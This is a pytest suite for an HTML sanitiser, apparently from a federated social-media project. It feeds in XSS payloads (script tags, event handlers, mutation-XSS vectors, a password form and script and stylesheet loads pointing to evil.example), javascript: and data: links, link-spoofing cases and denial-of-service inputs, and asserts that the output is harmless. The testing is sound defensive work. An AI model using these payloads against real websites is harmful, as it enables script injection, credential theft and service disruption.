"""HTML of strangers."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fedgov.kernel.text.sanitise import LINK_REL, MAX_HTML, plain_to_html, sanitise, trim_url
from tests.unit.kernel.text.harmless import assert_harmless

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/beacon.gif">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='x' onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<p style='position:fixed;top:0;background:url(https://evil.example)'>x</p>",
    "<style>@import url(https://evil.example)</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><a href='</title><script>alert(1)</script>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p/onclick=alert(1)>x",
    "<p id=login class='modal button' data-x=1 aria-hidden=true>x</p>",
    "<video poster=javascript:alert(1) src=x></video>",
    "<object data=javascript:alert(1)></object>",
    "<details open ontoggle=alert(1)>x</details>",
    "\x00<script\x00>alert(1)</script>",
    "<a href='https://a.example/\"><script>alert(1)</script>'>x</a>",
    "<img alt='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<img alt='\"><script>alert(1)</script>'>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_xss_01_nothing_that_runs_or_loads_is_left(attack: str) -> None:
    cleaned = sanitise(attack)
    assert_harmless(cleaned)
    assert "<script" not in cleaned.lower()
    assert_harmless(sanitise(attack * 400))
    assert_harmless(plain_to_html(attack))


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        " JaVaScRiPt:alert(1)",
        "java\nscript:alert(1)",
        "java&#x09;script:alert(1)",
        "&#106;avascript:alert(1)",
        "\x01javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "blob:https://a.example/1",
        "//evil.example/",
        "/settings/delete",
        "?x=1",
        "ftp://a.example/",
        "https://bank.example@evil.example/",
        "http:\\\\bank.example@evil.example/",
    ],
)
def test_xss_03_a_link_leads_to_an_http_address_or_nowhere(href: str) -> None:
    assert "href" not in sanitise(f'<a href="{href}">x</a>')


@pytest.mark.parametrize("href", ["https://a.example/x?y=1&z=2#top", "http://a.example", "mailto:info@a.example"])
def test_an_honest_link_is_kept_and_told_to_nobody(href: str) -> None:
    cleaned = sanitise(f"<a href='{href}' target=_blank rel=opener>x</a>")
    assert f'rel="{LINK_REL}"' in cleaned
    assert href.replace("&", "&amp;") in cleaned
    assert "target" not in cleaned


def test_xss_05_what_mastodon_hides_is_shown() -> None:
    cleaned = sanitise(
        '<a href="https://example.com/long/path"><span class="invisible">https://</span>'
        '<span class="ellipsis">example.com/lo</span><span class="invisible">ng/path</span></a>'
    )
    assert re.sub("<[^>]*>", "", cleaned) == "https://example.com/long/path"
    assert "class" not in cleaned


@pytest.mark.parametrize(
    ("text", "href", "shown"),
    [
        ("https://www.bank.nl/inloggen", "https://evil.example/", " [evil.example]"),
        ("bank.nl", "https://evil.example:8443/", " [evil.example:8443]"),
        ("<b>bank</b>.nl/x", "https://evil.example/", " [evil.example]"),
        ("&#98;ank.nl", "https://evil.example/", " [evil.example]"),
        ("bank.nl and more", "https://evil.example/", " [evil.example]"),
        ("https://www.bank.nl/inloggen", "https://bank.nl/elsewhere", ""),
        ("bücher.example", "https://xn--bcher-kva.example/", ""),
        ("@fatima@groningen.example", "https://social.groningen.example/@fatima", ""),
        ("read this", "https://evil.example/", ""),
        ("e.g. this", "https://evil.example/", ""),
    ],
)
def test_xss_05_a_link_that_names_another_host_shows_the_real_one(text: str, href: str, shown: str) -> None:
    cleaned = sanitise(f'<a href="{href}">{text}</a>')
    assert cleaned.endswith(f"{shown}</a>")
    assert ("[" in cleaned) is bool(shown)


def test_xss_07_styles_and_foreign_classes_are_dropped() -> None:
    cleaned = sanitise('<p style="position:fixed" class="modal mention"><span class="h-card own u-url">x</span></p>')
    assert cleaned == '<p><span class="h-card u-url">x</span></p>'


def test_a_picture_becomes_its_text_alternative() -> None:
    assert sanitise('<p><img src="https://a.example/i" alt="a &lt;b&gt; cow"></p>') == "<p>[a &lt;b&gt; cow]</p>"
    assert sanitise("<p><img src=x></p>") == "<p></p>"
    assert sanitise("<IMG alt=x>") == "[x]"


def test_structure_is_kept() -> None:
    for html in (
        "<p>a<br>b</p>",
        '<ol start="3"><li>a</li></ol>',
        "<blockquote><p>x</p></blockquote>",
        "<pre><code>a\n  b</code></pre>",
        "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>",
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
        '<p lang="fy">Goeie</p>',
        "<h2>x</h2><h6>y</h6>",
    ):
        assert sanitise(html) == html
    assert sanitise("<h1>x</h1>") == "<h2>x</h2>"
    assert sanitise('<td colspan="99999">x</td>'.join(("<table><tr>", "</tr></table>"))).count("colspan") == 0


def test_the_inside_of_what_is_no_text_is_not_shown() -> None:
    for tag in ("script", "style", "textarea", "title", "svg", "math", "iframe", "select", "template", "noscript"):
        assert sanitise(f"a<{tag}>inside</{tag}>b") == "ab"


def test_text_is_not_mistaken_for_tags() -> None:
    assert sanitise("1 < 2 & 3 > 2 <3") == "1 &lt; 2 &amp; 3 &gt; 2 &lt;3"


HOSTILE = {
    "quotations": "<blockquote>" * 100_000,
    "bold of many kinds": "".join(f"<b id=x{n}>" for n in range(40_000)),
    "fonts over paragraphs": "".join(f"<font color={n}>" for n in range(20_000)) + "<p>x" * 20_000,
    "closings in attributes": "<b title='</b>'>" * 12_000,
    "closings in comments": '<b id="1"><!--</b>-->' * 9_000,
    "closings in raw text": "".join(f'<b id="{n}"><title></b></title>' for n in range(5_500)),
    "lists": "<ul><li>" * 60_000,
    "tables": "<table><tr><td>" * 30_000,
    "anchors": "<a href=https://a.example>" * 15_000,
    "angle brackets": "<" * 500_000,
    "ampersands": "&" * 500_000,
    "open comment": "<!--" * 120_000,
    "attributes": "<p " + " ".join(f"a{n}=1" for n in range(60_000)) + ">",
    "half attributes": "<a " + "x " * 200_000,
    "pictures": "<img alt='x'>" * 30_000,
    "closed anchors": "<a href=https://a.example>b.example</a>" * 12_000,
    "much text": "x" * 5_000_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_dos_05_and_12_hostile_html_is_decided_in_bounded_time(name: str) -> None:
    started = time.process_time()
    cleaned = sanitise(HOSTILE[name])
    assert time.process_time() - started < 3
    assert_harmless(cleaned[:100_000].rpartition("<")[0])


def test_a_long_honest_article_keeps_its_structure() -> None:
    article = (
        '<h2>Kop</h2><p>Een <b>vette</b> <a href="https://a.example/x" title="y">link</a><br/></p><!-- x -->' * 2_000
    )
    cleaned = sanitise(article)
    assert cleaned.count("<b>") == cleaned.count("<h2>") == 2_000


def test_dos_12_half_a_surrogate_pair_stops_nothing() -> None:
    assert sanitise("<p>\ud800x</p>") == "<p>? x</p>".replace("? x", "?x") or "x" in sanitise("<p>\ud800x</p>")
    assert "x" in plain_to_html("\udfffx")


fragments = st.sampled_from(
    (
        *("<", ">", "</", "/>", '"', "'", "=", " ", "&", ";", "<!--", "-->", "]]>", "<a href=", "<img src=", "alt="),
        *("javascript:", "https://a.example/", "onerror=", "style=", "class=", "<script>", "</script>", "<svg>", "<p>"),
        *(
            "</p>",
            "<table>",
            "<td>",
            "<b>",
            "</b>",
            "<math>",
            "<style>",
            "</style>",
            "<template>",
            "<h1>",
            "&#60;",
            "\x00",
        ),
    )
)


@given(st.lists(fragments | st.text(max_size=5), max_size=40).map("".join))
def test_no_html_gives_anything_harmful_or_an_exception(html: str) -> None:
    assert_harmless(sanitise(html))
    assert_harmless(sanitise(html * 50))
    assert_harmless(plain_to_html(html))


@given(st.lists(fragments | st.text(max_size=5), max_size=30).map("".join))
def test_what_was_cleaned_stays_as_it_is(html: str) -> None:
    once = sanitise(html)
    assert_harmless(sanitise(once))


# --- plain text -------------------------------------------------------------------------------------------------


def test_plain_text_becomes_paragraphs_breaks_and_links() -> None:
    html = plain_to_html("Hoi <b>\r\nregel & https://a.example/x?a=1&b=2.\n\n\nTwee")
    assert html == (
        f'<p>Hoi &lt;b&gt;<br>regel &amp; <a href="https://a.example/x?a=1&amp;b=2" rel="{LINK_REL}">'
        "https://a.example/x?a=1&amp;b=2</a>.</p><p>Twee</p>"
    )
    assert plain_to_html("") == ""
    assert "<a" not in plain_to_html("https:// javascript:alert(1) ftp://a.example")


@pytest.mark.parametrize(
    ("found", "meant"),
    [
        ("https://a.example/x.", "https://a.example/x"),
        ("https://a.example/x),", "https://a.example/x"),
        ("https://a.example/A_(b)", "https://a.example/A_(b)"),
        ("https://a.example/A_(b))!", "https://a.example/A_(b)"),
        ("https://a.example/?q=1", "https://a.example/?q=1"),
    ],
)
def test_an_address_ends_before_the_punctuation_of_its_sentence(found: str, meant: str) -> None:
    assert trim_url(found) == meant


def test_html_beyond_the_largest_size_is_cut() -> None:
    assert len(sanitise("x" * (MAX_HTML + 10))) == MAX_HTML


@pytest.mark.parametrize(
    "hidden", ["<title></b></title>", "<!--</b>--!>", "<i title='</b>'>", "<textarea></b></textarea>"]
)
def test_closings_that_are_none_do_not_make_deep_nesting_look_shallow(hidden: str) -> None:
    cleaned = sanitise("".join(f'<b id="{number}">{hidden}' for number in range(400)) + "text")
    assert cleaned.count("<b>") == 0
    assert "text" in cleaned
